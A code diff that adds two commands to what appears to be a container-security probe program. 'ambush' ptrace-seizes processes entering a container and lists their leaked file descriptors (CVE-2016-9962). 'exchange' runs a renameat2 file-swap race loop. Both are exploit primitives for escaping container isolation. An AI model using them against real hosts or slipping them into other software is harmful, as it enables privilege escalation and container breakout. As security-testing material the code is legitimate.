@@ -18,6 +18,7 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/personality.h>
+#include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -303,6 +304,64 @@ static int serve(void)
 	return 0;
 }
 
+/* What of process pid can be had: descriptors beyond the standard streams, by
+ * name or by tracing it and looking again while it cannot go on. */
+static int grasp(int pid)
+{
+	char path[64], name[320], link[512];
+	int found = 0;
+	snprintf(path, sizeof path, "/proc/%d/fd", pid);
+	DIR *d = opendir(path);
+	for (struct dirent *e; d && (e = readdir(d));) {
+		if (e->d_name[0] == '.' || atoi(e->d_name) <= 2)
+			continue;
+		snprintf(name, sizeof name, "%s/%s", path, e->d_name);
+		ssize_t n = readlink(name, link, sizeof link - 1);
+		if (n < 0)
+			continue;
+		link[n] = 0;
+		printf("fd %s\n", link);
+		found++;
+	}
+	if (d)
+		closedir(d);
+	return found;
+}
+
+/* Lies in wait for processes that come into the container (CVE-2016-9962). */
+static void ambush(const char *seconds)
+{
+	time_t end = time(0) + atoi(seconds);
+	int seen = 0, last = 0, self = getpid();
+	for (setvbuf(stdout, 0, _IOLBF, 0); time(0) < end;) {
+		DIR *d = opendir("/proc");
+		for (struct dirent *e; d && (e = readdir(d));) {
+			int pid = atoi(e->d_name);
+			if (pid <= 1 || pid == self)
+				continue;
+			if (pid != last)
+				last = pid, seen++;
+			if (grasp(pid) > 0 || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
+				continue;
+			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+			waitpid(pid, 0, __WALL);
+			grasp(pid);
+			ptrace(PTRACE_DETACH, pid, 0, 0);
+		}
+		if (d)
+			closedir(d);
+	}
+	printf("seen %d\n", seen);
+}
+
+/* Changes two names for one another for as long as it may run. */
+static void exchange(const char *a, const char *b)
+{
+	while (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
+		;
+	say("exchange", -1);
+}
+
 int main(int argc, char **argv)
 {
 	const char *what = argc > 1 ? argv[1] : "", *arg = argc > 2 ? argv[2] : "";
@@ -319,6 +378,8 @@ int main(int argc, char **argv)
 	else if (!strcmp(what, "filecap")) filecap(arg);
 	else if (!strcmp(what, "notify")) return notify(argc, argv);
 	else if (!strcmp(what, "serve")) return serve();
+	else if (!strcmp(what, "ambush")) ambush(arg);
+	else if (!strcmp(what, "exchange")) exchange(arg, argc > 3 ? argv[3] : "");
 	else return 2;
 	return 0;
 }
